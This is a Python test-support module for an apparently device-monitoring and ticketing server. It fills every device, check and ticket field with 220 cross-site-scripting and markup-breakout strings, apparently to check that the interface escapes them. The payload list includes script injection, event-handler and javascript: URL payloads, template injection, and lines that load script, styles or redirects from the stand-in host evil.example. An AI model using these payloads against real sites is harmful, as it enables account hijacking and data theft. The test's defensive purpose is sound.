"""Texts that try to become markup, and rows that hold them in every field a device sets."""

import itertools
import json
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime
from typing import Any

from agent.protocol.words import DeviceKind, Evaluation, Priority
from server_stub.clients.models import Device
from server_stub.tickets.models import EntryKind, Ticket
from tests.support import desk_rows

_BREAKOUTS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "--><!-- ",
    "]]>",
    "</bdi></a>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</table>",
    "<!--",
    "{{ viewer }}{% now %}",
    "${window.hacked=1}`",
    "\u202e\u2066",
    "\u2028\r\n",
    "&lt;&#60;&#x3c;",
    "\ufeff\x1b[2J",
)
_PAYLOADS = (
    "<script>window.hacked=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1><use href=data:image/svg+xml,x#y>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href=javascript:window.hacked=1 autofocus onfocus=window.hacked=1>x</a>",
    " onmouseover=window.hacked=1 style=background:url(//evil.example/) x=",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
    "<style>*{background:url(//evil.example/)}</style><link rel=stylesheet href=//evil.example/>",
    "<div hx-get=/ hx-trigger=load hx-on::load=window.hacked=1>x</div>",
    "<form action=//evil.example/><button autofocus formaction=javascript:window.hacked=1>",
)

TEXTS = [f"{start}{rest}" for start, rest in itertools.product(_BREAKOUTS, _PAYLOADS)]
"""220 of them."""


@dataclass(frozen=True)
class HostileRows:
    """A device whose every word is hostile, and a ticket it raised."""

    device: Device
    ticket: Ticket


def write(texts: Sequence[str], now: datetime) -> HostileRows:
    """Put the texts into every field that a device can set: names, facts, checks, events."""
    first = texts[0]
    of = desk_rows.client(f"Client {now:%f}{len(texts)}{hash(first)}")
    device = desk_rows.device(
        of,
        first,
        now=now,
        kind=DeviceKind.SERVER,
        os=first[:40],
        facts={
            "computer": first,
            "model": list(texts),
            "memory": {f"{text}{n}": text for n, text in enumerate(texts)},
            "volumes": [{"name": text, first: text} for text in texts],
            first: first,
        },
        checks=[
            desk_rows.check_state(
                text, text, Evaluation.OK, summary=text, since=text[:40] or "x", check=text
            )
            for text in texts
        ],
    )
    Device.objects.filter(id=device.id).update(agent_version=first[:40])
    tickets = [
        desk_rows.ticket(of, text, now=now, on=device, priority=Priority.LOW, fingerprint=text)
        for text in texts
    ]
    row = tickets[0]
    for number, text in enumerate(texts):
        members: dict[str, Any] = dict.fromkeys(
            ("rule", "check", "target", "condition", "advice", "reason", "about"), text
        )
        readings = [
            {"metric": f"{text}{number}", "value": text, "unit": "word"},
            {"metric": text, "value": 1, "unit": text},
        ]
        members["series"] = [{"metric": text, "unit": text, "points": [[60, 1], [0, 2]]}]
        members["evidence"] = [{"title": text, "lines": [text, text]}]
        payload = json.loads(desk_rows.payload_text(row, readings=readings, **members))
        desk_rows.entry(row, EntryKind.CHANGED, now, actor=text, body=text, payload=payload)
        tried = dict.fromkeys(("action", "at", "outcome", "detail"), text)
        desk_rows.entry(row, EntryKind.TRIED, now, body=text, payload={"tried": [tried]})
    return HostileRows(device, row)
